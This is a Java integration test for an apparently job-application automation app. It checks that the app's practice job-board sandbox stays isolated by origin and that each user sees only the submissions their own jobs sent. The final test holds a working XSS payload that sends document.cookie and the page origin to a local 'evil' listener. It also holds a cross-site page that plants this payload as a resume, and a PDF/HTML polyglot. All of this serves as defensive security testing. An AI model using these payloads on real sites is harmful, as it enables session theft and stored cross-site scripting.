package io.applyflow.sandbox;

import io.applyflow.job.JobBus;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Download;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.PlaywrightException;
import com.microsoft.playwright.Response;
import io.applyflow.Applyflow;
import io.applyflow.job.Pacing;
import io.applyflow.job.SubmitLedger;
import io.applyflow.platform.bus.JsonCodec;
import io.applyflow.platform.db.TestDatabase;
import io.applyflow.job.Job;
import io.applyflow.job.Jobs;
import io.applyflow.job.Runs;
import io.applyflow.support.Api;
import io.applyflow.support.Browsing;
import io.applyflow.support.TestApp;
import io.vertx.core.Vertx;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.http.HttpServer;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import io.vertx.ext.web.client.WebClient;
import io.vertx.ext.web.multipart.MultipartForm;
import io.vertx.sqlclient.Pool;
import io.vertx.sqlclient.Tuple;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.List;
import java.util.Queue;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.atomic.AtomicReference;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The sandbox on its own origin, against the whole application: the app's origin serves nothing of it; what the
 * sandbox received is shown only to the user whose own job sent it (linked by the submit ledger's receipt), through
 * the API, the file route and the page; and an HTML "resume" planted through the sandbox never runs script in the
 * app's origin (real Chromium, a local listener the payload would call).
 */
class ReceivedApplicationsIT {
  private static final String BOARD = "acme-robotics";
  private static final long[] POSTINGS = {4012001, 4012008, 4012015, 4012022};
  private static Applyflow app;
  private static Api api;
  private static String sandbox;
  private static Vertx vertx;
  private static Pool pool;
  private static WebClient client;
  private static final HttpClient http = HttpClient.newHttpClient();

  @BeforeAll
  static void start() {
    app = TestApp.shared();
    api = TestApp.api();
    sandbox = app.sandboxUrl();
    vertx = Vertx.vertx();
    JsonCodec.register(vertx.eventBus(), JobBus.Progress.class); // Runs.finish publishes the run's progress
    pool = TestDatabase.shared().pool(vertx, 2);
    client = WebClient.create(vertx);
  }

  @AfterAll
  static void stop() {
    client.close();
    pool.close().await();
    vertx.close().await();
  }

  // --- steps ---------------------------------------------------------------------------------------

  private static String jobPath(long posting) {
    return "/sandbox/job-boards/" + BOARD + "/jobs/" + posting;
  }

  /** An application posted to the sandbox the way any client posts it; returns the stored id. */
  private static long apply(String email, long posting, String filename, byte[] resume) {
    var res = client.postAbs(sandbox + jobPath(posting)).sendMultipartForm(MultipartForm.create()
        .attribute("first_name", "Grace").attribute("last_name", "Hopper").attribute("email", email)
        .attribute("phone", "+1 412 555 0100").attribute("country", "US")
        .binaryFileUpload("resume", filename, Buffer.buffer(resume), "application/pdf")).await();
    assertEquals(201, res.statusCode(), res.bodyAsString());
    return res.bodyAsJsonObject().getLong("submission_id");
  }

  private static long userId(String email) {
    return pool.preparedQuery("select id from users where email = $1").execute(Tuple.of(email)).await()
        .iterator().next().getLong("id");
  }

  /**
   * What the apply worker records when the sandbox accepts an application: a job of the user's for the posting, its
   * ledger attempt and the confirmation carrying the sandbox's id as the receipt (the real {@link SubmitLedger}).
   */
  private static void ledger(long userId, long posting, String receipt) {
    String url = sandbox + jobPath(posting);
    ledger(userId, new Jobs.Posting("greenhouse", BOARD, String.valueOf(posting),
        sandbox + "/sandbox/boards-api/v1/boards/" + BOARD + "/jobs/" + posting, url, "Engineer", "Acme Robotics",
        "Pittsburgh"), receipt);
  }

  /** The same for any ATS's posting; {@code receipt} null: confirmed with none (Lever's hosted form gives none). */
  private static void ledger(long userId, Jobs.Posting posting, String receipt) {
    Runs runs = new Runs(pool, vertx.eventBus());
    Jobs jobs = new Jobs(pool, vertx.eventBus());
    long runId = runs.create(userId, "Software Engineer", "mid", null, 1, "review", 100).await();
    runs.finish(runId, userId, "done", null).await();
    Long jobId = jobs.insertDiscovered(runId, userId, posting).await();
    Job job = jobs.get(jobId, userId).await();
    assertEquals(SubmitLedger.Outcome.ATTEMPTED, new SubmitLedger(pool).attempt(job, Pacing.NONE).await().outcome());
    pool.withTransaction(conn -> SubmitLedger.confirm(conn, job, receipt)
        // what a confirmed job is: no stage of the running app may take this fixture up as new work
        .compose(v -> conn.preparedQuery("update jobs set status = 'submitted' where id = $1").execute(
            io.vertx.sqlclient.Tuple.of(job.id())))).await();
  }

  private static HttpResponse<byte[]> raw(String path, String token) {
    HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(api.base + path));
    if (token != null) {
      b.header("Authorization", "Bearer " + token);
    }
    try {
      return http.send(b.build(), HttpResponse.BodyHandlers.ofByteArray());
    } catch (IOException | InterruptedException e) {
      throw new IllegalStateException(e);
    }
  }

  private static Set<Long> ids(JsonArray list) {
    Set<Long> out = new TreeSet<>();
    list.forEach(o -> out.add(((JsonObject) o).getLong("id")));
    return out;
  }

  private static byte[] pdf(String text) {
    return ("%PDF-1.4\n% " + text + "\n%%EOF\n").getBytes(StandardCharsets.US_ASCII);
  }

  // --- the app's origin ----------------------------------------------------------------------------

  @Test
  void theSandboxHasItsOwnOriginAndTheAppsServesNothingOfIt() {
    assertTrue(sandbox.matches("http://127\\.0\\.0\\.1:\\d+"), sandbox);
    assertNotEquals(api.base, sandbox);
    for (String path : List.of("/sandbox/boards-api/v1/boards/" + BOARD + "/jobs", jobPath(4012015), "/sandbox/login",
        "/sandbox/submissions", "/sandbox/submissions/1/files/resume", "/sandbox/")) {
      assertEquals(404, api.get(path, null).status(), "the app's origin: " + path);
    }
    var board = client.getAbs(sandbox + "/sandbox/boards-api/v1/boards/" + BOARD + "/jobs").send().await();
    assertEquals(200, board.statusCode());
    assertTrue(board.bodyAsJsonObject().getJsonArray("jobs").getJsonObject(0).getString("absolute_url")
        .startsWith(sandbox + "/sandbox/job-boards/"), "postings live on the sandbox's origin");
  }

  // --- two users -----------------------------------------------------------------------------------

  @Test
  void eachUserSeesOnlyWhatTheirOwnJobsSent() {
    String emailA = Api.uniqueEmail("received-a");
    String emailB = Api.uniqueEmail("received-b");
    String tokenA = api.register(emailA, "Ada A");
    String tokenB = api.register(emailB, "Bob B");
    long a = apply(emailA, 4012015, "ada.pdf", pdf("Ada's resume"));
    long b = apply(emailB, 4012015, "bob.txt", "Bob's resume\n".getBytes(StandardCharsets.UTF_8));
    long nobodys = apply(Api.uniqueEmail("stranger"), 4012015, "x.pdf", pdf("stranger"));
    ledger(userId(emailA), 4012015, String.valueOf(a));
    ledger(userId(emailB), 4012015, String.valueOf(b));
    // a ledger row naming A's id for another posting does not make A's application B's: the join is exact
    ledger(userId(emailB), 4012022, String.valueOf(a));

    JsonArray listA = api.get("/api/sandbox/submissions", tokenA).jsonArray();
    assertEquals(Set.of(a), ids(listA));
    JsonObject mine = listA.getJsonObject(0);
    assertEquals(new TreeSet<>(List.of("id", "source", "board", "job_id", "posting_id", "receipt", "first_name",
        "last_name", "email", "phone", "answers", "files", "received_at")), new TreeSet<>(mine.fieldNames()),
        "today's JSON shape");
    assertEquals("greenhouse", mine.getString("source"));
    assertNull(mine.getString("posting_id"));
    assertEquals(BOARD, mine.getString("board"));
    assertEquals(4012015L, mine.getLong("job_id"));
    assertEquals(emailA, mine.getString("email"));
    JsonObject file = mine.getJsonArray("files").getJsonObject(0);
    assertEquals(new JsonObject().put("field", "resume").put("filename", "ada.pdf").put("content_type", "application/pdf")
        .put("bytes", pdf("Ada's resume").length), file);
    assertEquals(Set.of(b), ids(api.get("/api/sandbox/submissions", tokenB).jsonArray()));

    assertEquals(Set.of(a), ids(api.get("/api/sandbox/submissions?board=" + BOARD + "&job_id=4012015", tokenA).jsonArray()));
    assertEquals(Set.of(), ids(api.get("/api/sandbox/submissions?board=northwind-data", tokenA).jsonArray()));
    var badJob = api.get("/api/sandbox/submissions?job_id=12x", tokenA);
    assertEquals(400, badJob.status());
    assertTrue(badJob.json().getString("detail").startsWith("job_id"), badJob.text());
    var badBoard = api.get("/api/sandbox/submissions?board=%3Cscript%3E", tokenA);
    assertEquals(400, badBoard.status());
    assertTrue(badBoard.json().getString("detail").startsWith("board"), badBoard.text());
    assertEquals(401, api.get("/api/sandbox/submissions", null).status());
    assertEquals(401, api.get("/api/sandbox/submissions/" + a + "/files/resume", null).status());

    // the owner gets the file as a download that no browser renders or sniffs
    HttpResponse<byte[]> own = raw("/api/sandbox/submissions/" + a + "/files/resume", tokenA);
    assertEquals(200, own.statusCode());
    assertArrayEquals(pdf("Ada's resume"), own.body());
    assertEquals("application/pdf", own.headers().firstValue("content-type").orElse(""));
    assertTrue(own.headers().firstValue("content-disposition").orElse("").startsWith("attachment; filename=\"ada.pdf\""),
        own.headers().toString());
    assertEquals("nosniff", own.headers().firstValue("x-content-type-options").orElse(""));
    assertEquals("sandbox; default-src 'none'", own.headers().firstValue("content-security-policy").orElse(""));
    assertEquals("no-store", own.headers().firstValue("cache-control").orElse(""));
    HttpResponse<byte[]> text = raw("/api/sandbox/submissions/" + b + "/files/resume", tokenB);
    assertEquals("text/plain; charset=utf-8", text.headers().firstValue("content-type").orElse(""));

    // anyone else gets exactly what a submission that does not exist gets
    var others = api.get("/api/sandbox/submissions/" + a + "/files/resume", tokenB);
    long missing = 999_999_999_999L;
    var none = api.get("/api/sandbox/submissions/" + missing + "/files/resume", tokenB);
    assertEquals(404, others.status());
    assertEquals(404, none.status());
    assertEquals(none.text().replace(String.valueOf(missing), "N"), others.text().replace(String.valueOf(a), "N"));
    assertEquals(404, api.get("/api/sandbox/submissions/" + nobodys + "/files/resume", tokenA).status());
    assertEquals(404, api.get("/api/sandbox/submissions/" + a + "/files/cover_letter", tokenA).status());
    assertEquals(400, api.get("/api/sandbox/submissions/" + a + "/files/photo", tokenA).status());
    assertEquals(400, api.get("/api/sandbox/submissions/x/files/resume", tokenA).status());

    // the page shows the same split
    Document pageA = Jsoup.parse(api.get("/received", tokenA).text());
    assertNotNull(pageA.getElementById("received-" + a));
    assertNull(pageA.getElementById("received-" + b));
    assertNull(pageA.getElementById("received-" + nobodys));
    assertEquals("/api/sandbox/submissions/" + a + "/files/resume", pageA.selectFirst("#received-" + a + " a.received-file").attr("href"));
    assertNotNull(pageA.selectFirst("nav a[href=/received]"), "the nav links the page while the sandbox is on");
    assertTrue(pageA.getElementById("received-about").text().contains("practice job board"));
    Document pageB = Jsoup.parse(api.get("/received", tokenB).text());
    assertNotNull(pageB.getElementById("received-" + b));
    assertNull(pageB.getElementById("received-" + a));
    assertFalse(pageB.text().contains(emailA));
  }

  // --- Lever and Ashby ------------------------------------------------------------------------------

  @Test
  void anAshbyApplicationIsShownByTheApplicationIdItWasAnsweredWithAndALeverOneIsNot() {
    String posting = AshbySandboxIT.PAYMENTS;
    String emailA = Api.uniqueEmail("received-ashby-a");
    String emailB = Api.uniqueEmail("received-ashby-b");
    String tokenA = api.register(emailA, "Ada A");
    String tokenB = api.register(emailB, "Bob B");
    var res = client.postAbs(sandbox + "/sandbox/ashby/api/non-user-graphql?op=ApiSubmitSingleApplicationFormAction")
        .sendMultipartForm(AshbySandboxIT.payments(emailA, "ada.pdf", pdf("Ada's resume"))).await();
    assertEquals(200, res.statusCode(), res.bodyAsString());
    String receipt = res.bodyAsJsonObject().getString("application_id");
    String jobUrl = sandbox + "/sandbox/ashby/Meridian/" + posting;
    ledger(userId(emailA), new Jobs.Posting("ashby", "Meridian", posting, sandbox
        + "/sandbox/ashby-api/posting-api/job-board/Meridian", jobUrl, "Software Engineer, Payments", "Meridian",
        "New York, NY"), receipt);
    // B's ledger names the same posting with another id: not A's application
    ledger(userId(emailB), new Jobs.Posting("ashby", "Meridian", posting, sandbox
        + "/sandbox/ashby-api/posting-api/job-board/Meridian", jobUrl, "Software Engineer, Payments", "Meridian",
        "New York, NY"), "00000000-0000-4000-8000-000000000000");

    JsonArray listA = api.get("/api/sandbox/submissions", tokenA).jsonArray();
    assertEquals(1, listA.size(), listA.encodePrettily());
    JsonObject mine = listA.getJsonObject(0);
    assertEquals("ashby", mine.getString("source"));
    assertEquals("Meridian", mine.getString("board"));
    assertEquals(posting, mine.getString("posting_id"));
    assertEquals(receipt, mine.getString("receipt"));
    assertEquals(emailA, mine.getString("email"));
    assertEquals("resume", mine.getJsonArray("files").getJsonObject(0).getString("field"));
    HttpResponse<byte[]> file = raw("/api/sandbox/submissions/" + mine.getLong("id") + "/files/resume", tokenA);
    assertEquals(200, file.statusCode());
    assertArrayEquals(pdf("Ada's resume"), file.body());
    assertEquals(0, api.get("/api/sandbox/submissions", tokenB).jsonArray().size());
    assertEquals(404, api.get("/api/sandbox/submissions/" + mine.getLong("id") + "/files/resume", tokenB).status());
    Document pageA = Jsoup.parse(api.get("/received", tokenA).text());
    assertTrue(pageA.getElementById("received-" + mine.getLong("id")).text().contains("Meridian · " + posting));

    // Lever's hosted form redirects to its thanks page and names no application id: nothing to link a user to
    String emailC = Api.uniqueEmail("received-lever");
    String tokenC = api.register(emailC, "Cy C");
    var lever = client.postAbs(sandbox + "/sandbox/lever/tidewater-energy/" + LeverSandboxIT.METERING + "/apply")
        .followRedirects(false).sendMultipartForm(LeverSandboxIT.meteringApplication(emailC)).await();
    assertEquals(303, lever.statusCode(), lever.bodyAsString());
    ledger(userId(emailC), new Jobs.Posting("lever", "tidewater-energy", LeverSandboxIT.METERING, sandbox
        + "/sandbox/lever-api/v0/postings/tidewater-energy/" + LeverSandboxIT.METERING, sandbox + "/sandbox/lever/"
        + "tidewater-energy/" + LeverSandboxIT.METERING, "Software Engineer II, Metering Data", "Tidewater Energy",
        "Remote - US"), null);
    assertEquals(0, api.get("/api/sandbox/submissions", tokenC).jsonArray().size());
  }

  // --- a planted resume, in Chromium ---------------------------------------------------------------

  @Test
  void aPlantedHtmlResumeNeverRunsScriptInTheAppsOrigin() throws Exception {
    // another site on 127.0.0.1: the attacker's page, the listener the payload calls, and the control page
    Queue<String> hits = new ConcurrentLinkedQueue<>();
    AtomicReference<String> attackPage = new AtomicReference<>();
    AtomicReference<String> payloadPage = new AtomicReference<>();
    HttpServer evil = vertx.createHttpServer().requestHandler(req -> {
      switch (req.path()) {
        case "/hit" -> {
          hits.add(req.uri());
          req.response().end("ok");
        }
        case "/attack.html" -> req.response().putHeader("content-type", "text/html").end(attackPage.get());
        case "/control.html" -> req.response().putHeader("content-type", "text/html").end(payloadPage.get());
        default -> req.response().setStatusCode(404).end();
      }
    }).listen(0, "127.0.0.1").await();
    String beacon = "http://127.0.0.1:" + evil.actualPort();
    String payload = "<!DOCTYPE html><html><body><script>"
        + "fetch('" + beacon + "/hit?from=' + encodeURIComponent(location.origin) + '&c=' + encodeURIComponent(document.cookie),"
        + " {mode: 'no-cors'}); window.__planted = true; alert('planted');</script>"
        + "<img src=x onerror=\"new Image().src='" + beacon + "/hit?img=' + encodeURIComponent(location.origin)\"></body></html>";
    String attacker = Api.uniqueEmail("attacker");
    String attack = "<!DOCTYPE html><html><body><iframe name=sink></iframe>"
        + "<form id=f target=sink method=post enctype=multipart/form-data action='" + sandbox + jobPath(4012015) + "'>"
        + "<input name=first_name value=Eve><input name=last_name value=Evil><input name=email value='" + attacker + "'>"
        + "<input name=phone value='+1 412 555 0100'><input name=country value=US><input type=file name=resume id=r></form>"
        + "<script>"
        + "const payload = " + JsonObject.of("p", payload).encode().replace("</", "<\\/") + ".p;"
        + "const fd = new FormData(); [['first_name','Eve'],['last_name','Evil'],['email','" + attacker + "'],"
        + "['phone','+1 412 555 0100'],['country','US']].forEach(([k, v]) => fd.append(k, v));"
        + "fd.append('resume', new File([payload], 'cv.pdf', {type: 'application/pdf'}));"
        + "fetch('" + sandbox + jobPath(4012015) + "', {method: 'POST', mode: 'no-cors', body: fd})"
        + ".then(() => { document.title = document.title + ' fetched'; }, () => { document.title = document.title + ' fetched'; });"
        + "const dt = new DataTransfer(); dt.items.add(new File([payload], 'cv.pdf', {type: 'application/pdf'}));"
        + "document.getElementById('r').files = dt.files;"
        + "document.querySelector('iframe').addEventListener('load', () => { document.title = document.title + ' posted'; });"
        + "document.getElementById('f').submit();"
        + "</script></body></html>";
    attackPage.set(attack);
    payloadPage.set(payload);

    List<String> dialogs = new ArrayList<>();
    List<String> cspViolations = new ArrayList<>();
    try (Browsing web = Browsing.start()) {
      BrowserContext context = web.browser.newContext();
      context.onPage(p -> {
        p.onDialog(d -> {
          dialogs.add(p.url() + ": " + d.message());
          d.dismiss();
        });
        p.onConsoleMessage(m -> {
          if (m.text().contains("Content Security Policy")) {
            cspViolations.add(p.url() + ": " + m.text());
          }
        });
      });
      Page page = context.newPage();
      page.setDefaultTimeout(30_000);
      String email = web.signUp(page, "planted");
      long user = userId(email);

      // 1. while signed in, the person visits another site that plants an HTML "resume" both ways
      page.navigate(beacon + "/attack.html");
      page.waitForFunction("() => document.title.includes('fetched') && document.title.includes('posted')");
      assertEquals(0, SandboxRecords.ofEmail(attacker).size(), "the sandbox refused the HTML named cv.pdf");

      // 2. what the sandbox does take, a text file holding that HTML and a PDF with it after the header, is the
      //    person's own (their ledger holds the receipts) and opened from the app's received page
      byte[] text = ("Richard Hendriks\n" + payload).getBytes(StandardCharsets.UTF_8);
      byte[] polyglot = ("%PDF-1.4\n" + payload).getBytes(StandardCharsets.UTF_8);
      long textId = apply(email, 4012001, "cv.html", text);
      long pdfId = apply(email, 4012008, "cv.pdf", polyglot);
      ledger(user, 4012001, String.valueOf(textId));
      ledger(user, 4012008, String.valueOf(pdfId));
      page.navigate(web.base + "/received");
      for (var entry : List.of(new Object[] {textId, text}, new Object[] {pdfId, polyglot})) {
        long id = (long) entry[0];
        Download download = page.waitForDownload(() -> page.click("#received-" + id + " a.received-file"));
        assertArrayEquals((byte[]) entry[1], Files.readAllBytes(download.path()), "the file is downloaded as received");
        String url = web.base + "/api/sandbox/submissions/" + id + "/files/resume";
        Page direct = context.newPage();
        Download opened = direct.waitForDownload(() -> {
          try {
            direct.navigate(url);
          } catch (PlaywrightException e) {
            // Chromium aborts a navigation that turns into a download
          }
        });
        assertNotNull(opened.suggestedFilename());
        direct.close();
      }
      assertTrue(page.locator("#received-" + textId + " a.received-file").innerText().contains("cv.html.txt"));
      Response old = page.navigate(web.base + "/sandbox/submissions/" + textId + "/files/resume");
      assertEquals(404, old.status(), "the app's origin serves no sandbox file");

      // 3. the sandbox's own pages work under their CSP on their own origin
      Page board = context.newPage();
      board.navigate(sandbox + jobPath(4012015));
      board.click("#country");
      assertEquals("true", board.getAttribute("#country", "aria-expanded"), "the form's script runs");
      board.navigate(sandbox + "/sandbox/job-boards/lumen-health/jobs/6034085");
      assertEquals(1, board.locator("form#application_form").count());

      page.navigate(web.base + "/");
      assertEquals(Boolean.TRUE, page.evaluate("() => window.__planted === undefined"));
      assertTrue(dialogs.isEmpty(), dialogs.toString());
      assertTrue(cspViolations.isEmpty(), cspViolations.toString());

      // 4. control: the same payload served as a page of its own does run and call the listener
      Page control = context.newPage();
      control.navigate(beacon + "/control.html");
      control.waitForFunction("() => window.__planted === true");
      String fromControl = "from=" + URLEncoder.encode(beacon, StandardCharsets.UTF_8);
      long deadline = System.nanoTime() + 20_000_000_000L;
      while (hits.stream().noneMatch(h -> h.contains(fromControl)) && System.nanoTime() < deadline) {
        Thread.sleep(100);
      }
      List<String> all = new ArrayList<>(hits);
      assertTrue(all.stream().anyMatch(h -> h.contains(fromControl)), "the payload calls the listener where it may run");
      String controlOrigin = URLEncoder.encode(beacon, StandardCharsets.UTF_8);
      assertTrue(all.stream().allMatch(h -> h.contains(controlOrigin)), "only the control page's script ran: " + all);
      assertEquals(List.of(beacon + "/control.html: planted"), dialogs);
      context.close();
    } finally {
      evil.close().await();
    }
  }
}
